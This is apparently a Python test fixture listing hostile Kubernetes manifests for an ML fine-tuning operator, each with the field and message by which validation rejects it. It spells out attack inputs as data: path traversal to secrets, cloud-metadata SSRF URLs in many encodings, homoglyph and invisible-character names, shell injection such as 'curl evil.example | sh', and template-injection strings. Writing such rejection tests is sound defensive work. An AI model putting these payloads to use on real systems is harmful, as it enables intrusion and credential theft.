"""Hostile manifests, and how pydantic and the API server must reject each.

`field` and `fix` must be in both messages; a Hostile without a field is accepted, and harmless because its text is only
ever used as data.
"""

import dataclasses
from collections.abc import Mapping
from typing import Any, Final

from tests.make import make_manifest, merge

SCHEME: Final = "s3://bucket/"
"""Part of the API server's message for an unsupported URI."""


@dataclasses.dataclass(frozen=True)
class Hostile:
    """One manifest, as its difference from a valid one."""

    change: Mapping[str, Any] = dataclasses.field(default_factory=dict)
    """Changes of the spec."""
    field: str = ""
    """The rejected field; empty if the manifest is accepted."""
    fix: str = ""
    """Part of the message."""
    api: str | None = None
    """Part of the API server's message if it differs; empty if only the operator rejects it."""
    metadata: Mapping[str, Any] = dataclasses.field(default_factory=dict)

    def manifest(self, namespace: str = "ml") -> dict[str, Any]:
        """Return the manifest."""
        good = make_manifest(namespace=namespace)
        return {**good, "metadata": merge(good["metadata"], self.metadata), "spec": merge(good["spec"], self.change)}


def model(uri: str, fix: str, api: str | None = None) -> Hostile:
    return Hostile({"model": {"uri": uri}}, "spec.model.uri", fix, api)


def dataset(uri: str, fix: str, api: str | None = None) -> Hostile:
    return Hostile({"dataset": {"uri": uri}}, "spec.dataset.uri", fix, api)


def output(uri: str, fix: str, api: str | None = None) -> Hostile:
    return Hostile({"output": {"uri": uri}}, "spec.output.uri", fix, api)


def mlflow(uri: str, fix: str) -> Hostile:
    tracking = {"mlflow": {"uri": uri, "experiment": "bots"}}
    return Hostile({"tracking": tracking}, "spec.tracking.mlflow.uri", fix)


def name(text: str, fix: str, api: str) -> Hostile:
    return Hostile(field="metadata.name", fix=fix, api=api, metadata={"name": text})


_STEP = "write the resolved path"
_INVISIBLE = "remove it"
_BUCKET = "write s3://bucket/key"
_HUB = "write hf://organization/name"
_HOST = "write https://host/path"
_METADATA = "write the tracking server's host"
_RFC = "RFC 1123"
_SUBDOMAIN = "must look like support-bot"
_SECRET = {"secretRef": {"name": "s3-credentials"}}

CORPUS: Final[dict[str, Hostile]] = {
    # out of a folder
    "claim-to-secrets": dataset("pvc://rows/../../secrets/output/AWS_SECRET_ACCESS_KEY", _STEP),
    "claim-to-token": dataset("pvc://rows/../../token/token", _STEP),
    "claim-here": dataset("pvc://rows/./x.jsonl", _STEP),
    "claim-as-model": model("pvc://models/..", _STEP),
    "bucket-above": output("s3://adapters/team-a/../team-b", _STEP),
    "bucket-short": output("s3://adapters/../b", _STEP),
    "bucket-above-it": dataset("s3://../x.jsonl", _STEP),
    "hub-above": model("hf://../..", _STEP),
    "hub-escape": model("hf://org/..", _STEP),
    "hub-deeper": model("hf://org/name/../../other", _STEP),
    "hub-file": dataset("hf://datasets/org/name/../../../etc/passwd.jsonl", _STEP),
    "held-out-above": Hostile(
        {"dataset": {"evaluation": {"uri": "s3://data/a/../../b.jsonl"}}}, "spec.dataset.evaluation.uri", _STEP
    ),
    "source-above": Hostile(
        {"dataset": {"uri": None, "sources": [{"uri": "pvc://rows/../x.jsonl"}]}}, "spec.dataset.sources[0].uri", _STEP
    ),
    "revision-above": Hostile(
        {"model": {"revision": "../../other/refs/main"}}, "spec.model.revision", "write the name of a branch"
    ),
    "revision-query": Hostile({"model": {"revision": "main?x=1#y"}}, "spec.model.revision", "write the name of a"),
    "encoded-steps": Hostile({"output": {"uri": "s3://adapters/%2e%2e/team-b"}}),  # S3 decodes nothing
    # other places
    "metadata-as-model": model("http://169.254.169.254/latest/meta-data/", "copy it to s3://", SCHEME),
    "metadata-as-rows": dataset("https://169.254.169.254/x.jsonl", "copy it to s3://", SCHEME),
    "metadata-as-bucket": dataset("s3://169.254.169.254/latest/x.jsonl", "correct the bucket"),
    "bucket-with-port": output("s3://169.254.169.254:80/x", _BUCKET),
    "bucket-with-user": output("s3://key:secret@adapters/x", _BUCKET),
    "bucket-arn": output("s3://arn:aws:s3:us-east-1:1:accesspoint/x", _BUCKET),
    "bucket-dots": output("s3://a..b/x", "correct the bucket"),
    "file-in-cluster": model("file:///var/run/secrets", "only"),
    "rows-in-cluster": dataset("file:///etc/passwd.jsonl", "only"),
    "file-in-capitals": model("FILE:///etc", "write hf://organization/name", SCHEME),
    "scheme-behind-blank": model(" file:///etc", "write hf://organization/name", SCHEME),
    "data-uri": model("data:text/plain,x", "write hf://organization/name", SCHEME),
    "two-uris": dataset("s3://data/x.jsonl\ns3://other/y.jsonl", "write s3://bucket/train.jsonl", SCHEME),
    "tracker-metadata": mlflow("http://169.254.169.254/latest/api/token", _METADATA),
    "tracker-name": mlflow("http://metadata.google.internal/computeMetadata/v1/", _METADATA),
    "tracker-name-in-capitals": mlflow("http://MetaData.Google.Internal/", _METADATA),
    "tracker-number": mlflow("http://2852039166/", _HOST),
    "tracker-hexadecimal": mlflow("http://0xA9.0xFE.0xA9.0xFE/", _HOST),
    "tracker-octal": mlflow("http://0251.0376.0251.0376/", _HOST),
    "tracker-short": mlflow("http://169.16689662/", _HOST),
    "tracker-mapped": mlflow("http://[::ffff:169.254.169.254]/", _HOST),
    "tracker-user": mlflow("https://admin:hunter2@mlflow.example.com/", _HOST),
    "tracker-behind-user": mlflow("http://mlflow.example.com@169.254.169.254/", _HOST),
    "tracker-pod-itself": mlflow("http://127.0.0.1:8080/", "write a host that pods can reach"),
    "tracker-scheme": Hostile(
        {"tracking": {"wandb": {"project": "bots", "baseUrl": "file:///etc"}}},
        "spec.tracking.wandb.baseUrl", "must look like", "should match '^https?://.+$'",
    ),
    # looks like another
    "homoglyph-model": model("hf://mеta-llama/Llama-3.2-3B", _HUB),  # noqa: RUF001 (a Cyrillic letter)
    "homoglyph-rows": dataset("hf://datasets/оrg/name/x.jsonl", "write hf://datasets/"),  # noqa: RUF001 (the same)
    "homoglyph-bucket": output("s3://аdapters/x", _BUCKET),  # noqa: RUF001 (the same)
    "fullwidth-step": Hostile({"output": {"uri": "s3://adapters/．．/team-b"}}),  # noqa: RUF001 (nothing normalizes it)
    "right-to-left": output("s3://adapters/\u202egpj.a-maet", _INVISIBLE),
    "zero-width": dataset("s3://data/x\u200b.jsonl", _INVISIBLE),
    "arabic-letter-mark": dataset("s3://data/x\u061c.jsonl", _INVISIBLE),
    "hangul-filler": dataset("s3://data/x\u3164.jsonl", _INVISIBLE),
    "tag-characters": output("s3://adapters/team\U000e0041", _INVISIBLE),
    "soft-hyphen": dataset("s3://data/x\u00ad.jsonl", _INVISIBLE),
    "escape-sequence": output("s3://adapters/\x1b[2Jx", _INVISIBLE),
    "nul": output("s3://adapters/x\x00y", _INVISIBLE),
    "tracker-escape": Hostile(
        {"tracking": {"wandb": {"project": "bots\x1b]0;owned\x07"}}}, "spec.tracking.wandb.project", _INVISIBLE
    ),
    # names
    "name-with-path": name("../../etc", _SUBDOMAIN, _RFC),
    "name-with-shell": name("$(reboot)", "is a placeholder; write the value", _RFC),
    "name-in-cyrillic": name("suppоrt-bot", _SUBDOMAIN, _RFC),  # noqa: RUF001 (a Cyrillic letter)
    "name-with-dot": name("support.bot", _SUBDOMAIN, "use hyphens"),
    "name-too-long": name("a" * 53, "may have 52 characters", "may have 52 characters"),
    "secret-elsewhere": Hostile(
        {"output": {"secretRef": {"name": "kube-system/admin"}}}, "spec.output.secretRef.name", "must look like",
        "should match '^[a-z0-9]",
    ),
    "secret-namespace": Hostile(
        {"output": {"secretRef": {"name": "admin", "namespace": "kube-system"}}},
        "spec.output.secretRef.namespace", "unknown field", 'unknown field "spec.output.secretRef.namespace"',
    ),
    "secret-above": Hostile(
        {"model": {"secretRef": {"name": "../admin"}}}, "spec.model.secretRef.name", "must look like",
        "should match '^[a-z0-9]",
    ),
    "claim-elsewhere": model("pvc://kube-system:data/x", "write pvc://claim/path", SCHEME),
    "account-elsewhere": Hostile(
        {"output": {"serviceAccountName": "system:admin"}}, "spec.output.serviceAccountName", "must look like",
        "should match '^[a-z0-9]",
    ),
    "queue-with-label": Hostile({"queue": {"name": "gpu,x=y"}}, "spec.queue.name", "must look like", "should match"),
    # into labels and selectors
    "node-selector-key": Hostile(
        {"resources": {"nodeSelector": {"a b\nc": "x"}}}, "spec.resources.nodeSelector", "write a label key"
    ),
    "node-selector-value": Hostile(
        {"resources": {"nodeSelector": {"pool": "x, y in (z)"}}}, "spec.resources.nodeSelector", "write a label value"
    ),
    "gpu-product": Hostile({"resources": {"gpuProduct": "A100\n"}}, "spec.resources.gpuProduct", "write a label va"),
    "taint": Hostile(
        {"resources": {"tolerations": [{"key": "a=b:NoSchedule"}]}}, "spec.resources.tolerations[0].key", "write a lab"
    ),
    # into commands, variables, YAML and JSON
    "module-with-shell": Hostile(
        {"lora": {"targets": ["q_proj; curl evil.example | sh"]}}, "spec.lora.targets[0]", "must look like",
        "should match '^[A-Z",
    ),
    "module-as-expression": Hostile(
        {"lora": {"modulesToSave": ["(a+)+$"]}}, "spec.lora.modulesToSave[0]", "must look like", "should match '^[A-Z"
    ),
    "task-as-file": Hostile(
        {"evaluation": {"tasks": ["../../task.yaml"]}}, "spec.evaluation.tasks[0]", "must look like",
        "should match '^[A-Z",
    ),
    "memory-with-shell": Hostile(
        {"resources": {"memory": "16Gi; reboot"}}, "spec.resources.memory", "must look like", "should match '^[0-9]"
    ),
    "variable": Hostile({"output": {"uri": "s3://adapters/$(AWS_SECRET_ACCESS_KEY)"}}),
    "shell": Hostile({"dataset": {"uri": "s3://data/`reboot`;$(reboot)|x.jsonl"}}),
    "yaml": Hostile({"dataset": {"uri": "s3://data/x.jsonl #}], image: evil, [{"}}),
    "json": Hostile({"output": {"uri": 's3://adapters/x","image":"evil"}'}}),
    "helm": Hostile({"output": {"uri": "s3://adapters/{{ .Values.secret }}"}}),
    "template-of-rows": Hostile({"dataset": {"template": {"prompt": "{q.__class__.__mro__}", "answer": "{a}"}}}),
    "template-of-chats": Hostile({"dataset": {"chatTemplate": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}}),
    "annotations": Hostile(
        metadata={
            "annotations": {
                "kubectl.kubernetes.io/last-applied-configuration": '{"spec":{"model":{"uri":"hf://evil/evil"}}}',
                "container.apparmor.security.beta.kubernetes.io/trainer": "unconfined",
            }
        }
    ),
    "labels": Hostile(metadata={"labels": {"app.kubernetes.io/managed-by": "someone", "qlora.dev/job": "other"}}),
    # code, and fields that ask for it
    "remote-code": Hostile(
        {"model": {"trustRemoteCode": True}}, "spec.model.trustRemoteCode", "unknown field",
        'unknown field "spec.model.trustRemoteCode"',
    ),
    "image": Hostile({"image": "evil"}, "spec.image", "unknown field", 'unknown field "spec.image"'),
    "command": Hostile({"command": ["sh"]}, "spec.command", "unknown field", 'unknown field "spec.command"'),
    "host-network": Hostile(
        {"resources": {"hostNetwork": True}}, "spec.resources.hostNetwork", "unknown field",
        'unknown field "spec.resources.hostNetwork"',
    ),
    # too much
    "long-uri": output(f"s3://adapters/{'x' * 1024}", "may have 1024 characters", "Too long"),
    "long-template": Hostile(
        {"dataset": {"chatTemplate": "x" * 32_769}}, "spec.dataset.chatTemplate", "may have 32768 char", "Too long"
    ),
    "many-sources": Hostile(
        {"dataset": {"uri": None, "sources": [{"uri": "s3://data/x.jsonl"}] * 17}},
        "spec.dataset.sources", "may have 16 entries", "must have at most 16 items",
    ),
    "many-processes": Hostile({"resources": {"nodes": 65}}, "spec.resources.nodes", "must be ≤ 64", "less than or eq"),
}  # fmt: skip

REFUSED: Final = {key: case for key, case in CORPUS.items() if case.field}
HARMLESS: Final = {key: case for key, case in CORPUS.items() if not case.field}
